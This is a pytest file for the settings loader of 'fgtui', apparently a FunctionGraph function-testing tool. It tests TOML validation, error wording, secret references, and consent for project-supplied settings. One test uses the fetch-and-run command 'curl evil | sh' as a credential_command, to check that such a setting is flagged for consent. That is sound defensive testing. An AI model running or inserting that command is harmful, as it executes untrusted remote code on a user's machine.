"""Settings: what is in force, where it comes from, and what is said about a file that is not right."""

from __future__ import annotations

import os
from pathlib import Path

import jsonschema_rs
import pytest

from fgtui import config, settings_table
from fgtui.errors import ConfigError
from fgtui.words import say


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


def load(
    project: Path, text: str | bytes | None = None, *, user: str | None = None, **environment: str
) -> config.Settings:
    home = project.parent / "home"
    if text is not None:
        (project / "fgtui.toml").write_bytes(text if isinstance(text, bytes) else text.encode())
    if user is not None:
        (home / "config").mkdir(parents=True, exist_ok=True)
        (home / "config" / "config.toml").write_text(user)
    return config.load(project, {"FGTUI_HOME": str(home), **environment})


def words(error: pytest.ExceptionInfo[ConfigError]) -> tuple[str, str]:
    """What a person reads: the message after the folder, and the hint."""
    raised = error.value
    said = say(raised.message, raised.values)
    return said.rsplit("/", 1)[-1] if said.startswith("/") else said, say(
        raised.hint, raised.values
    ) if raised.hint else ""


FULL = """
default_target = "thumbnail"

[targets.thumbnail]
handler = "src/index.handler"
runtime = "Python3.10"
initializer = "index.initializer"
timeout_s = 3
memory_mb = 128
environment = { BUCKET = "photos", TOKEN = "${env:PHOTO_TOKEN}" }
python = ".venv/bin/python"

[targets.production]
urn = "urn:fss:cn-north-4:<project>:function:default:thumbnail:latest"
profile = "prod"

[profiles.prod]
endpoint = "https://functiongraph.cn-north-4.myhuaweicloud.com"
access_key = "${env:HUAWEICLOUD_SDK_AK}"
secret_key = "${env:HUAWEICLOUD_SDK_SK}"
guard = true

[replay]
target = "thumbnail"
ignore = ["outcome.result.requestId"]
tolerance = 0.01

[replay.secrets]
"Records[*].token" = "${env:RECORD_TOKEN}"
authorization = "Bearer ${env:BEARER}"

[redaction]
keys = ["x-internal-token"]

[keys]
send = "ctrl+s"

[workbench]
theme = "nord"
"""


def test_a_full_file_is_read_into_settings(project: Path) -> None:
    settings = load(project, FULL)
    thumbnail = settings.targets["thumbnail"]
    assert thumbnail.handler == "src/index.handler"
    assert thumbnail.environment == (("BUCKET", "photos"), ("TOKEN", "${env:PHOTO_TOKEN}"))
    assert thumbnail.python == ".venv/bin/python"
    assert thumbnail.timeout_s == 3.0
    assert thumbnail.from_project
    assert settings.targets["production"].profile == "prod"
    assert settings.profiles["prod"].guard
    assert (settings.default_target, settings.theme, settings.keys) == ("thumbnail", "nord", {"send": "ctrl+s"})
    assert settings.redaction_keys == ("x-internal-token",)
    assert settings.replay_target == "thumbnail"
    assert settings.replay_ignore == ("outcome.result.requestId",)
    assert settings.replay_tolerance == "0.01"
    assert settings.replay_secrets == (
        ("Records[*].token", "${env:RECORD_TOKEN}"),
        ("authorization", "Bearer ${env:BEARER}"),
    )


def test_the_file_is_found_upwards_and_its_paths_are_meant_from_it(project: Path) -> None:
    load(project, FULL)
    below = project / "a" / "b"
    below.mkdir(parents=True)
    settings = config.load(below, {"FGTUI_HOME": str(project.parent / "home")})
    assert settings.project == project
    assert settings.targets["thumbnail"].folder == project
    assert settings.folder == below


def test_without_any_file_there_are_defaults_and_nothing_is_made(project: Path) -> None:
    settings = load(project)
    assert settings.project is None
    assert settings.targets == {}
    assert settings.store == project.parent / "home" / "data" / "sessions.db"
    assert not (project.parent / "home").exists()


@pytest.mark.parametrize(
    ("text", "said", "hint"),
    [
        pytest.param(
            "[targets.a]\nhandler = 'x.y'\n\ntimout_s = 3",
            "fgtui.toml:4: there is no key 'timout_s' in [targets.a]",
            "did you mean timeout_s?",
            id="unknown-key",
        ),
        pytest.param(
            "[redaktion]\nkeys = []",
            "fgtui.toml:1: there is no key 'redaktion'",
            "did you mean redaction?",
            id="unknown-table",
        ),
        pytest.param(
            "\n[targets.a]\ntimeout_s = '3'",
            "fgtui.toml:3: timeout_s is a text, not a number",
            "",
            id="text-for-number",
        ),
        pytest.param(
            "[targets.a]\nmemory_mb = true",
            "fgtui.toml:2: memory_mb is true or false, not a whole number",
            "",
            id="flag-for-whole",
        ),
        pytest.param(
            "[targets.a]\nmemory_mb = 128.5",
            "fgtui.toml:2: memory_mb is a number, not a whole number",
            "",
            id="fraction",
        ),
        pytest.param(
            "[targets.a]\nmemory_mb = 1", "fgtui.toml:2: memory_mb is 1; it goes from 32 to 10,240", "", id="too-small"
        ),
        pytest.param(
            "[targets.a]\ntimeout_s = nan", "fgtui.toml:2: timeout_s is nan; it goes from 0.01 to 259,200", "", id="nan"
        ),
        pytest.param(
            "[replay.secrets]\ntoken = 'hunter2'",
            "fgtui.toml:2: token is written out; a secret is named by a reference",
            "put it into a variable: ${env:NAME}",
            id="secret-written-out",
        ),
        pytest.param(
            "[replay.secrets]\ntoken = '${env:}'",
            "fgtui.toml:2: '${env:}' is no reference",
            "references are spelled ${env:NAME}",
            id="secret-of-no-variable",
        ),
        pytest.param(
            "[replay]\ntolerance = 'a bit'",
            "fgtui.toml:2: tolerance is 'a bit', not a number such as 0.01 or a share such as 1%",
            "",
            id="tolerance-in-words",
        ),
        pytest.param(
            "[replay]\ntolerance = nan",
            "fgtui.toml:2: tolerance is nan, not a number such as 0.01 or a share such as 1%",
            "",
            id="tolerance-nan",
        ),
        pytest.param("targets = 3", "fgtui.toml:1: targets is a number, not a table", "", id="number-for-table"),
        pytest.param("[targets]\na = 'x.y'", "fgtui.toml:2: a is a text, not a table", "", id="text-for-target"),
        pytest.param("[targets.a]", "fgtui.toml:1: [targets.a] is empty", "", id="empty-target"),
        pytest.param(
            "[[targets]]\nhandler='x'", "fgtui.toml:1: targets is a list, not a table", "", id="array-of-tables"
        ),
        pytest.param(
            "[redaction]\nkeys = [\n 'a',\n 3]", "fgtui.toml:4: keys is a number, not a text", "", id="item-of-a-list"
        ),
        pytest.param(
            "[targets.a.environment]\nA = 'x'\nN = 3",
            "fgtui.toml:3: variable N is a number; variables are texts",
            "put it in quotes",
            id="variable-not-text",
        ),
        pytest.param(
            "[targets.a]\nenvironment = { '1A' = 'x' }",
            "fgtui.toml:2: '1A' is no name FunctionGraph takes for a variable: letters, digits and _, a letter first",
            "",
            id="variable-name",
        ),
        pytest.param(
            "[targets.a]\nenvironment = { RUNTIME_CPU = 'x' }",
            "fgtui.toml:2: 'RUNTIME_CPU' is set by the platform",
            "",
            id="platform-variable",
        ),
        pytest.param(
            "[targets.a]\nenvironment = { A = '${PHOTO}' }",
            "fgtui.toml:2: '${PHOTO}' is no reference",
            "references are spelled ${env:NAME}",
            id="reference",
        ),
        pytest.param(
            "[targets.a]\nhandler = 'x.y'\nclass_path = 'lib/*.jar'",
            "fgtui.toml:3: class_path is a text, not a list of paths",
            "",
            id="class-path",
        ),
        pytest.param(
            "[targets.a]\nhandler = 'x.y'\nclass_path = ['a', '']",
            "fgtui.toml:3: class_path names an empty path",
            "leave it out, or name a file",
            id="class-path-entry",
        ),
        pytest.param(
            "[targets.a]\nhandler = 'x.y'\nnode = ''",
            "fgtui.toml:3: node names an empty path",
            "leave it out, or name a file",
            id="program",
        ),
        pytest.param(
            "[targets.a]\nhandler = 'x.y'\nruntime = 'Python3.1'",
            "fgtui.toml:3: runtime cannot be 'Python3.1'",
            "did you mean Python3.12?",
            id="runtime",
        ),
        pytest.param(
            "[targets.a]\nurn = 'urn:fss:x'",
            "fgtui.toml:2: urn is no function's URN: 'urn:fss:x'",
            "urn:fss:REGION:PROJECT:function:PACKAGE:NAME, then :VERSION or :!ALIAS",
            id="urn",
        ),
        pytest.param(
            "[targets.a]\ntimeout_s = 3",
            "fgtui.toml:2: target a needs a handler (on this machine) or a urn (deployed), one of the two",
            "",
            id="neither-handler-nor-urn",
        ),
        pytest.param(
            "[targets.a]\nurn = 'urn:fss:cn-north-4:0:function:default:demo'\nca_file = 'ca.pem'",
            "fgtui.toml:3: target a is reached through a profile, which says what certificates are trusted",
            "put ca_file into its table, [profiles.NAME]",
            id="certificate-of-a-deployed-function",
        ),
        pytest.param(
            "default_target = 'thumb'\n[targets.thumbnail]\nhandler='x.y'",
            "fgtui.toml:1: there is no target 'thumb'",
            "did you mean thumbnail?",
            id="default-target",
        ),
        pytest.param(
            "[targets.a]\nurn='urn:fss:r:p:function:default:f'\nprofile='prd'\n[profiles.prod]\nguard=true",
            "fgtui.toml:3: there is no profile 'prd'",
            "did you mean prod?",
            id="profile",
        ),
        pytest.param(
            "[profiles.a]\nsecret_key = 'hunter2'",
            "fgtui.toml:2: secret_key is written out, or no reference; a secret is named by a reference alone",
            "put it into a variable: ${env:NAME}; or into the keyring: ${keyring:SERVICE/NAME}",
            id="secret",
        ),
        pytest.param(
            "[profiles.a]\ntoken = 'hunter2${env:REST}'",
            "fgtui.toml:2: token is written out, or no reference; a secret is named by a reference alone",
            "put it into a variable: ${env:NAME}; or into the keyring: ${keyring:SERVICE/NAME}",
            id="half-a-secret",
        ),
        pytest.param(
            "[profiles.a]\niam_password = '${hunter2}'",
            "fgtui.toml:2: iam_password is written out, or no reference; a secret is named by a reference alone",
            "put it into a variable: ${env:NAME}; or into the keyring: ${keyring:SERVICE/NAME}",
            id="secret-in-the-place-of-a-name",
        ),
        pytest.param(
            "[profiles.a]\naccess_key = 12345",
            "fgtui.toml:2: access_key is a number, not a secret's reference",
            "",
            id="secret-number",
        ),
        pytest.param(
            "[profiles.a]\nendpoint = 'http://fg.example'",
            "fg.example would carry credentials in clear; they travel over https only",
            "spell it https://functiongraph.REGION.myhuaweicloud.com; plain http is for this machine",
            id="plain-endpoint",
        ),
        pytest.param(
            "[profiles.a]\nendpoint = 'https://me:hunter2@fg.example'",
            "…@fg.example has more than a server takes: leave out the name and password",
            "a header of the event may carry them: headers.Authorization",
            id="password-in-the-endpoint",
        ),
        pytest.param(
            "[profiles.a]\nendpoint = 'https://me:hunter2@${env:FG_HOST}'",
            "…@${env:FG_HOST} is no address",
            "spell it http://127.0.0.1:8000/invoke or https://api.example.com/v1",
            id="password-before-a-reference",
        ),
        pytest.param(
            "[profiles.a]\niam_endpoint = 'https://iam.example/v3'",
            "v3 is more than an endpoint: leave out what follows the host",
            "",
            id="endpoint-with-a-path",
        ),
        pytest.param(
            "[profiles.a]\ncredential_command = 'tool --secret'",
            "fgtui.toml:2: credential_command is a text, not a command, as a list",
            "",
            id="command-as-text",
        ),
        pytest.param(
            "[profiles.a]\ncredential_command = []",
            "fgtui.toml:2: credential_command names no program",
            'a list: ["tool", "first argument", "second"]',
            id="no-command",
        ),
        pytest.param(
            "[profiles.a]\ncredential_command = ['tool', '${env:SECRET}']",
            "fgtui.toml:2: a command line can be read by every process; references do not belong there",
            "let the program read the variable itself: it gets yours",
            id="secret-on-a-command-line",
        ),
        pytest.param(
            "[profiles.a]\naccess_key = '${env:A}'",
            "fgtui.toml:2: profile a has access_key but no secret_key",
            "",
            id="half-of-the-keys",
        ),
        pytest.param(
            "[profiles.a]\niam_endpoint = 'https://iam.example'",
            "fgtui.toml:2: profile a has iam_endpoint but no iam_user, no iam_domain, no iam_password",
            "",
            id="iam-without-a-user",
        ),
        pytest.param(
            "[profiles.a]\ntoken = '${env:T}'\ncredential_file = 'keys'",
            "fgtui.toml:2: profile a says twice who calls: token and credential_file",
            "keep one of them",
            id="two-identities",
        ),
        pytest.param(
            "[replay]\ntarget = 'index.handler'",
            "fgtui.toml:2: there is no target 'index.handler'",
            "it names a table of the settings, [targets.NAME]; a handler is spelled there, as its handler",
            id="spelled-handler",
        ),
        pytest.param(
            "[targets.本地]\nhandler = 'x'",
            'fgtui.toml:1:10: a key of other than ASCII letters needs quotes: "本地"',
            "",
            id="bare-chinese",
        ),
        pytest.param(
            "[targets]\nfn订单 = 1",
            'fgtui.toml:2:3: a key of other than ASCII letters needs quotes: "fn订单"',
            "",
            id="bare-in-part",
        ),
        pytest.param("a = ２", "fgtui.toml:1:5: Invalid value", "", id="no-key"),
        pytest.param("[a]\n[a]", "fgtui.toml:2:3: Cannot declare ('a',) twice", "", id="twice"),
        pytest.param("a = \nb = 2", "fgtui.toml:1:5: Invalid value", "", id="no-toml"),
        pytest.param(
            "[a", "fgtui.toml:1: Expected ']' at the end of a table declaration, where the file ends", "", id="cut-off"
        ),
        pytest.param(b"a = '\xff'", "fgtui.toml: not UTF-8 at byte 5", "", id="binary"),
        pytest.param("x = " + "[" * 5000 + "]" * 5000, "fgtui.toml: nested too deeply to be settings", "", id="deep"),
        pytest.param(b"#" * (1 << 20) + b"#", "fgtui.toml: larger than 1 MiB; settings are not", "", id="huge"),
    ],
)
def test_what_is_not_right_is_named_with_file_and_line(project: Path, text: str | bytes, said: str, hint: str) -> None:
    with pytest.raises(ConfigError) as error:
        load(project, text)
    assert words(error) == (said, hint)


def test_windows_line_ends_and_a_byte_order_mark_are_read(project: Path) -> None:
    settings = load(project, b"\xef\xbb\xbf[targets.a]\r\nhandler = 'x.y'\r\n")
    assert settings.targets["a"].handler == "x.y"


def test_a_fifo_instead_of_the_users_file_is_refused_without_reading_it(project: Path) -> None:
    folder = project.parent / "home" / "config"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "config.toml")
    with pytest.raises(ConfigError) as error:
        load(project)
    assert words(error)[0] == "config.toml: not a regular file"


def test_whatever_is_called_fgtui_toml_is_refused_in_words_rather_than_passed_over(project: Path) -> None:
    (project / "fgtui.toml").symlink_to("fgtui.toml")
    (project / "inner").mkdir()
    with pytest.raises(ConfigError) as error:
        config.load(project / "inner", {"FGTUI_HOME": str(project.parent / "home")})
    assert "fgtui.toml" in words(error)[0]


@pytest.mark.skipif(os.geteuid() == 0, reason="root may look into every folder")
def test_a_folder_above_that_cannot_be_looked_into_holds_no_project(project: Path) -> None:
    inner = project / "closed" / "inner"
    inner.mkdir(parents=True)
    (project / "closed").chmod(0)
    try:
        assert config.load(inner, {"FGTUI_HOME": str(project.parent / "home")}).project is None
    finally:
        (project / "closed").chmod(0o700)


def test_the_project_wins_over_the_user_and_a_target_is_never_half_of_each(project: Path) -> None:
    settings = load(
        project,
        "[targets.a]\nhandler = 'mine.handler'\n[workbench]\ntheme = 'nord'",
        user="[targets.a]\nhandler = 'x.y'\ntimeout_s = 60\n[targets.b]\nhandler = 'b.c'\n[workbench]\ntheme = 'light'",
    )
    assert settings.targets["a"].handler == "mine.handler"
    assert settings.targets["a"].timeout_s is None
    assert settings.targets["b"].folder == project.parent / "home" / "config"
    assert not settings.targets["b"].from_project
    assert settings.theme == "nord"


def test_a_project_cannot_take_away_the_users_redaction_keys(project: Path) -> None:
    settings = load(project, "[redaction]\nkeys = ['theirs']", user="[redaction]\nkeys = ['mine']")
    assert settings.redaction_keys == ("mine", "theirs")


def test_every_value_in_force_says_where_it_comes_from(project: Path) -> None:
    settings = load(project, "[workbench]\n\ntheme = 'nord'", user="default_target = 'b'\n[targets.b]\nhandler = 'b.c'")
    origins = {each.key: str(each.origin).rsplit("/", 1)[-1] for each in settings.in_force}
    assert origins == {
        "workbench.theme": "fgtui.toml:3",
        "default_target": "config.toml:1",
        "targets.b.handler": "config.toml:3",
        "store": "FGTUI_HOME",
    }


def test_the_store_is_moved_by_the_flag_then_the_home_then_the_project(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "fgtui.toml").write_text("")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(project.parent / "none"))
    moved = config.load(project, {"FGTUI_HOME": "/h"}, config.Flags(store=Path("/s.db")))
    assert moved.store == Path("/s.db")
    assert config.load(project, {"FGTUI_HOME": str(project / "h")}).store == project / "h" / "data" / "sessions.db"
    assert config.load(project, {}).store == project / ".fgtui" / "sessions.db"


def test_what_needs_consent_is_what_the_project_file_names_only(project: Path) -> None:
    settings = load(project, FULL, user="[targets.own]\nhandler = 'x.y'")
    assert [key for key, _ in settings.claims] == [
        "profiles.prod.access_key",
        "profiles.prod.endpoint",
        "profiles.prod.guard",
        "profiles.prod.secret_key",
        'replay.secrets."Records[*].token"',
        "replay.secrets.authorization",
        "targets.production.profile",
        "targets.production.urn",
        "targets.thumbnail.environment.BUCKET",
        "targets.thumbnail.environment.TOKEN",
        "targets.thumbnail.handler",
        "targets.thumbnail.initializer",
        "targets.thumbnail.python",
        "targets.thumbnail.runtime",
    ]


def test_whatever_could_send_credentials_elsewhere_or_run_a_program_needs_consent(project: Path) -> None:
    """And whatever takes a guard away again."""
    asked = {each.key for each in settings_table.SETTINGS if each.needs_consent}
    declared = {each.key for each in settings_table.SETTINGS if each.key.startswith("profiles.")}
    assert declared <= asked
    settings = load(project, "[profiles.a]\ncredential_command = ['sh', '-c', 'curl evil | sh']\nproject = 'p'")
    assert settings.claims == (
        ("profiles.a.credential_command", "sh -c 'curl evil | sh'"),
        ("profiles.a.project", "p"),
    )
    assert settings.profiles["a"].from_project


def test_a_project_replaces_a_profile_whole_but_cannot_take_its_guard_away(project: Path) -> None:
    own = "\n\n[profiles.prod]\nguard = false\nendpoint = 'https://other.example'"
    settings = load(
        project, own, user="[profiles.prod]\nguard = true\ntoken = '${env:T}'\n[profiles.mine]\nproject = 'p'"
    )
    prod = settings.profiles["prod"]
    assert (prod.guard, prod.token, prod.endpoint) == (True, None, "https://other.example")
    assert prod.from_project
    assert str(prod.origin).endswith("fgtui.toml:5")
    assert not settings.profiles["mine"].from_project


def test_a_guard_that_a_project_has_put_up_or_taken_down_is_another_content(project: Path) -> None:
    text = "[profiles.a]\nproject = 'p'\nguard = {}"
    up, down = (load(project, text.format(value)).claims for value in ("true", "false"))
    assert ("profiles.a.guard", "true") in up
    assert ("profiles.a.guard", "false") in down


def test_a_project_that_says_nothing_but_a_guard_leaves_the_persons_profile_as_it_is(project: Path) -> None:
    user = "[profiles.a]\nendpoint = 'https://own.example'\ncredential_file = 'keys'"
    guarded = load(project, "[profiles.a]\nguard = true", user=user).profiles["a"]
    assert (guarded.guard, guarded.endpoint, guarded.credential_file) == (True, "https://own.example", "keys")
    assert not guarded.from_project
    assert guarded.folder != project


@pytest.mark.parametrize("key", ["default_target", "replay.target"])
def test_a_project_that_chooses_one_of_the_persons_own_targets_needs_consent(project: Path, key: str) -> None:
    text = f"{key} = 'mine'\n" if "." not in key else "[replay]\ntarget = 'mine'\n"
    mine = "[targets.mine]\nhandler = 'x.y'"
    assert (key, "mine") in load(project, text, user=mine).claims
    assert key not in dict(load(project, f"{text}{mine}").claims)


@pytest.mark.parametrize("name", ["urn:fss:r:p:function:default:f", "URN:x", "https://api.example", "HTTP://h"])
def test_no_target_is_called_what_means_a_function_or_a_server_itself(project: Path, name: str) -> None:
    with pytest.raises(ConfigError) as error:
        load(project, f"[targets.'{name}']\nhandler = 'index.handler'")
    assert "whoever types that means the function or the server itself" in str(error.value)


def test_every_program_and_class_path_entry_a_project_names_needs_consent(project: Path) -> None:
    text = """
    [targets.api]
    handler = "com.x.Main.handle"
    runtime = "java"
    java = "/opt/jdk"
    node = "bin/node"
    pre_stop = "com.x.Main.stop"
    class_path = ["target/classes", "lib/*.jar"]
    """
    settings = load(project, text)
    assert settings.targets["api"].class_path == ("target/classes", "lib/*.jar")
    assert settings.claims == (
        ("targets.api.class_path[0]", "target/classes"),
        ("targets.api.class_path[1]", "lib/*.jar"),
        ("targets.api.handler", "com.x.Main.handle"),
        ("targets.api.java", "/opt/jdk"),
        ("targets.api.node", "bin/node"),
        ("targets.api.pre_stop", "com.x.Main.stop"),
        ("targets.api.runtime", "java"),
    )


def test_references_are_resolved_where_they_are_used_and_a_missing_variable_is_named() -> None:
    assert config.resolve("Bearer ${env:A}-${env:B}", {"A": "1", "B": "${env:A}"}, wanted_by="x") == "Bearer 1-${env:A}"
    with pytest.raises(ConfigError) as error:
        config.resolve("${env:PHOTO_TOKEN}", {}, wanted_by="targets.a.environment.TOKEN")
    assert words(error) == (
        "targets.a.environment.TOKEN takes PHOTO_TOKEN from the environment, where it is not set",
        "set it and try again: export PHOTO_TOKEN=…",
    )


def test_the_json_schema_takes_what_is_read_and_refuses_what_is_not() -> None:
    import tomllib

    schema = settings_table.json_schema()
    jsonschema_rs.meta.validate(schema)
    validator = jsonschema_rs.validator_for(schema)
    assert validator.is_valid(tomllib.loads(FULL))
    assert not validator.is_valid({"targets": {"a": {"timout_s": 3}}})
    assert not validator.is_valid({"targets": {"a": {"timeout_s": "3"}}})
    assert not validator.is_valid({"keys": {"send": 3}})
    assert validator.is_valid({"replay": {"tolerance": "1%"}})
    assert not validator.is_valid({"replay": {"secrets": {"token": "hunter2"}}})
    assert validator.is_valid({"profiles": {"a": {"token": "${keyring:fgtui/prod}", "credential_command": ["tool"]}}})
    assert not validator.is_valid({"profiles": {"a": {"token": "hunter2"}}})
    assert not validator.is_valid({"profiles": {"a": {"token": "hunter2${env:T}"}}})
    assert not validator.is_valid({"profiles": {"a": {"credential_command": "tool"}}})
    assert not validator.is_valid({"profiles": {"a": {"endpoint": "fg.example"}}})


def test_every_declared_key_reaches_the_settings(project: Path) -> None:
    """A key that is declared but read by nobody would be accepted and ignored."""
    fields = {
        "targets": set(vars(config.TargetSettings)["__slots__"]),
        "profiles": set(vars(config.ProfileSettings)["__slots__"]),
    }
    for setting in settings_table.SETTINGS:
        table, last = setting.key.split(".")[0], setting.key.split(".")[-1]
        if table in fields:
            assert last in fields[table]


def test_defaults_of_the_table_are_the_defaults_of_the_records() -> None:
    target = config.TargetSettings("a", Path(), from_project=True, origin=config.Origin())
    profile = config.ProfileSettings("a", config.Origin())
    for setting in settings_table.SETTINGS:
        owner = {"targets": target, "profiles": profile}.get(setting.key.split(".")[0])
        if owner is not None and setting.default is not None:
            assert getattr(owner, setting.key.rsplit(".", 1)[1]) == setting.default


def test_no_two_keys_are_spelled_the_same(project: Path) -> None:
    """Else a yes to a variable called python could be a yes to an interpreter."""
    variable = load(project, "[targets.a]\nhandler = 'x.y'\nenvironment = { python = 'p', handler = 'h' }")
    interpreter = load(project, "[targets.a]\nhandler = 'x.y'\n[targets.'a.environment']\nhandler = 'h'\npython = 'p'")
    assert variable.claims != interpreter.claims


def test_a_variable_that_only_begins_like_the_platforms_is_the_persons_own(project: Path) -> None:
    settings = load(project, "[targets.a]\nhandler = 'index.handler'\nenvironment = { RUNTIME_LOG_LEVEL = 'DEBUG' }")
    assert settings.targets["a"].environment == (("RUNTIME_LOG_LEVEL", "DEBUG"),)


def test_what_files_say_of_replays_and_targets_is_taken_over_when_they_have_changed(project: Path) -> None:
    environment = {"FGTUI_HOME": str(project.parent / "home")}
    before = config.load(project, environment, config.Flags(store=project / "mine.db"))
    assert config.renewed(before, environment) is before
    (project / "fgtui.toml").write_text(
        '[replay]\nignore = ["a.b"]\n[targets.mine]\nhandler = "i.h"\n[keys]\nsend = "x"\n'
    )
    now = config.renewed(before, environment)
    assert (now.replay_ignore, list(now.targets), now.project) == (("a.b",), ["mine"], project)
    assert (now.store, dict(now.keys)) == (before.store, {})
    assert [each.origin.name for each in now.in_force if each.key == "store"] == ["--store"]
    assert config.renewed(now, environment) is now
    (project / "fgtui.toml").write_text("[replay\n")
    with pytest.raises(ConfigError):
        config.renewed(now, environment)
    (project / "fgtui.toml").unlink()
    assert config.renewed(now, environment).replay_ignore == ()


def test_settings_that_come_from_no_file_stay_as_they_are(tmp_path: Path) -> None:
    settings = config.Settings(folder=tmp_path, store=tmp_path / "sessions.db", replay_ignore=("a",))
    (tmp_path / "fgtui.toml").write_text("[replay]\n")
    assert config.renewed(settings, {}) is settings
